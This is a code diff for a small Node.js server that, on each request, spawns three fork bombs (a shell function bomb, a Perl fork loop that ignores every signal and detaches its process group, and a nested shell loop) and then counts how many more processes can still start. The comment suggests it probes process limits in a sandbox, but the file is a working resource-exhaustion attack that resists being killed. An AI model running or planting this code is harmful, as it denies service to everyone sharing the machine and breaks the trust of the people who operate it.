@@ -1,11 +1,16 @@
-// Makes as many processes as it can, each of which does the same; small ones, so that it is their number that counts.
-import { spawn } from 'node:child_process'
+// Forks until nobody in the box can, in small processes, so that it is their number that counts; those that end are replaced.
+import { spawn, spawnSync } from 'node:child_process'
 import { createServer } from 'node:http'
 
-const bomb = 'f() { f | f & }; f; f; f'
-for (let count = 0; count < 200; count++) {
-  try {
-    spawn('/bin/sh', ['-c', bomb], { stdio: 'ignore', detached: true }).on('error', () => {})
-  } catch {}
-}
-createServer((request, response) => response.end('{}')).listen(process.env.PORT)
+const bombs = [
+  ['/bin/sh', ['-c', 'f() { f | f & }; f; f; f']],
+  ['/usr/bin/perl', ['-e', '$SIG{$_} = "IGNORE" for keys %SIG; while (1) { fork; setpgrp }']],
+  ['/bin/sh', ['-c', 'while :; do sh -c "while :; do sleep 1 & done" & done']],
+]
+createServer(() => {
+  for (const [command, args] of bombs) spawn(command, args, { stdio: 'ignore', detached: true }).on('error', () => {})
+  for (let count = 0; ; count++) {
+    const { error } = spawnSync('/bin/true')
+    if (count > 0 && error) return console.log(`no more after ${count}: ${error.code}`)
+  }
+}).listen(process.env.PORT)
